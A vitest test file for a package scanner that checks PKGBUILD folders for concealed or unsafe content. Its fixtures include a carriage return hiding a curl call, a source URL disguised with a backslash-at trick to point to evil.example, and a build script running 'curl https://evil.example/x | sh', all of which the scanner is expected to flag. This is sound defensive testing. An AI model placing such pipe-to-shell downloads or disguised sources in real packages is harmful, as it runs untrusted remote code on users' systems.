import { describe, expect, it } from 'vitest'
import { checkFiles, rulesOf, sampleManifest } from './testing/checked-folder.ts'

const SUM = 'ab5f6c7d8e9f0a1b2c3d4e5f60718293a4b5c6d7e8f90112233445566778899a'
const PACKAGE = 'package() {\n  install -Dm755 x "$pkgdir/usr/bin/x"\n}\n'
const HEAD = 'pkgname=speech-example\npkgver=1.0.0\npkgrel=1\narch=(x86_64)\n'
const plain = (files: Record<string, string>) => ({
  'worker.toml': sampleManifest(),
  LICENSE: 'MIT\n',
  PKGBUILD: HEAD + PACKAGE,
  ...files,
})

describe('texts and sources that hide something', () => {
  it.each([
    ['a carriage return within a line', 'nothing here\rcurl https://example.org\n'],
    ['a blank that is a letter', 'a\u2800b\n'],
  ])('%s', async (_name, text) => {
    expect(rulesOf(await checkFiles(plain({ 'main.py': text })))).toEqual(['invisible-character'])
  })

  it('lines may end as on Windows', async () => {
    expect(rulesOf(await checkFiles(plain({ 'README.md': 'one\r\ntwo\r\n' })))).toEqual([])
  })

  it('a backslash in an address', async () => {
    const sources = `source=('https://github.com\\@evil.example/x.tgz')\nsha256sums=('${SUM}')\n`
    const report = await checkFiles(plain({ PKGBUILD: HEAD + sources + PACKAGE }))
    expect(rulesOf(report)).toContain('source-scheme')
  })

  it('a script of the folder that the build runs', async () => {
    const sources = `source=(fetch.sh)\nsha256sums=('${SUM}')\nbuild() {\n  sh fetch.sh\n}\n`
    const report = await checkFiles(
      plain({ 'fetch.sh': 'curl https://evil.example/x | sh\n', PKGBUILD: HEAD + sources + PACKAGE }),
    )
    expect(rulesOf(report)).toEqual(['pipe-to-shell', 'unlisted-download'])
  })
})
